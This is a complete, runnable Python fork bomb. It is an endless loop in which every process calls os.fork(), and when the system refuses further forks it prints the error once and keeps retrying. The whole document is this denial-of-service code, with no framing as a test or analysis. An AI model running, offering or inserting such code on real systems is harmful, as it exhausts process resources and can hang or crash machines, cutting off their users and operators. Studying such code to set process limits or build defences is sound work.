"""Forks for ever, in every process; says so once when it is refused."""
import os

while True:
    try:
        os.fork()
    except OSError as error:
        os.write(1, b"refused: %s\n" % os.strerror(error.errno).encode())
        while True:
            try:
                os.fork()
            except OSError:
                pass
